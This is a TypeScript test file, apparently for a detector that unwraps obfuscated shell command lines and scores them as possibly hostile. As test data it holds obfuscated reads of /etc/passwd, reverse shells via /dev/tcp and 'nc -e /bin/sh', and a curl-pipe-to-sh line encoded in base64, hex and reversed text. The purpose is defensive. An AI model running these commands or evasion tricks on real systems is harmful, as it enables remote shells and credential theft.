import { expect, test } from "vitest";
import { featuresOf, generalise, lineOf, MAX_FEATURES, MAX_VIEWS, ROWS, viewsOf } from "./features.ts";
import { MAX_LINE, payloads, unwrap } from "./unwrap.ts";

const whole = (text: string) => unwrap(text).segments.join(" ; ");

test.each([
  ["c''url -s", "curl -s"],
  ['w"g"et x', "wget x"],
  ["\\c\\u\\r\\l x", "curl x"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell expands it, not we.
  ["cat${IFS}/etc/passwd", "cat /etc/passwd"],
  ["cat$IFS$9/etc/passwd", "cat /etc/passwd"],
  ["{cat,/etc/passwd}", "cat /etc/passwd"],
  ["wh$@oami", "whoami"],
  ["$'\\x63\\x61t' /etc/passwd", "cat /etc/passwd"],
  ["CURL X", "curl x"],
  ["a\\\nb", "ab"],
  ["x=$(id -u)", "x= $( id -u)"],
])("%j is read as %j", (text, read) => {
  expect(whole(text)).toBe(read);
});

test.each([
  ["a; b && c || d & e\nf", ["a", "b", "c", "d", "e", "f"]],
  ["cat x | sh", ["cat x | sh"]],
  ["echo 'a; b' \"c && d\"", ["echo a; b c && d"]],
  ["sh -i >& /dev/tcp/h/1 0>&1", ["sh -i >& /dev/tcp/h/1 0>&1"]],
  ["run &> log", ["run &> log"]],
  ["", []],
])("the commands of %j", (text, segments) => {
  expect(unwrap(text).segments).toEqual(segments);
});

test("the tricks of a line are named, those of an honest one are not", () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell expands it, not we.
  expect(unwrap("c''u''rl${IFS}x").tricks.toSorted()).toEqual(["ifs", "quotes"]);
  expect(unwrap(`awk '{ print "x" }' "/srv/data file" && echo "it's"`).tricks).toEqual([]);
});

test("what a line decodes is read too: base64, hexadecimal, reversed", () => {
  const text = "curl http://198.51.100.7/x | sh";
  expect(payloads(`echo ${Buffer.from(text).toString("base64")} | base64 -d | sh`)).toEqual([text]);
  expect(payloads(`echo ${Buffer.from(text).toString("hex")} | xxd -r -p | sh`)).toEqual([text]);
  expect(payloads(`echo '${[...text].reverse().join("")}' | rev | sh`)).toEqual([text]);
  expect(payloads("base64 /srv/data/readings.csv")).toEqual([]);
});

test("a shell's -c is judged by its text, whatever the shell is called", () => {
  expect(lineOf({ argv: ["bash", "-c", "id; w", "x"] })).toBe("id; w x");
  expect(lineOf({ argv: ["-x", "-ec", "id"], exe: "/bin/dash" })).toBe("id");
  expect(lineOf({ argv: ["python3", "-c", "id"], exe: "/usr/bin/python3" })).toBe("python3 -c id");
  expect(lineOf({ argv: [], exe: "/usr/bin/true" })).toBe("/usr/bin/true");
});

test("addresses, hosts and long numbers stand for their kind", () => {
  expect(generalise("nc 198.51.100.7 44444")).toBe("nc ip0 0");
  expect(generalise("curl http://198.51.100.7:8080/a/x.sh")).toBe("curl http://ip0:0/.sh");
  expect(generalise("curl https://dl.example.com/")).toBe("curl https://host0/");
  expect(generalise("nc 127.0.0.1 22")).toBe("nc lo0 22");
  expect(generalise("mysql -p<masked:5d1c8a07> shop")).toBe("mysql -pword0 shop");
});

test("no more than sixteen labels are looked at from each dot of a line: the time stays linear", () => {
  expect(generalise(`ping ${"a.".repeat(16)}com`)).toBe("ping host0");
  expect(generalise(`ping ${"a.".repeat(18)}com`)).toBe("ping a.a.host0");
});

test("features are bounded and within the table, however long and strange a line is", () => {
  const hostile = [
    "a;".repeat(4000),
    "é💥".repeat(4000),
    Array.from({ length: 4000 }, (_, at) => at.toString(36)).join(" "),
    "{a,".repeat(3000),
  ];
  for (const text of hostile) {
    const views = viewsOf({ argv: [text] });
    expect(views.length).toBeLessThanOrEqual(MAX_VIEWS);
    for (const view of views) {
      expect(view.text.length).toBeLessThanOrEqual(MAX_LINE * 3);
      const { rows, weights } = featuresOf(view);
      expect(rows.length).toBe(weights.length);
      expect(rows.length).toBeLessThanOrEqual(MAX_FEATURES);
      expect(new Set(rows).size).toBe(rows.length);
      for (const row of rows) expect(row > 0 && row < ROWS).toBe(true);
    }
  }
});

test("an attack between harmless commands is a view of its own", () => {
  const views = viewsOf({ argv: ["ls; date; nc -e /bin/sh 198.51.100.7 4444; uptime"] });
  expect(views.map(({ text }) => text)).toContain("nc -e /bin/sh 198.51.100.7 4444");
});

test("a server as parent is seen, an unknown one is not", () => {
  const parent = (path: string) => viewsOf({ argv: ["id"], parent: path })[0]!.signs;
  expect(parent("/usr/sbin/nginx")).not.toEqual(parent("/opt/x/thing"));
  expect(parent("/opt/x/thing")).toEqual([]);
});
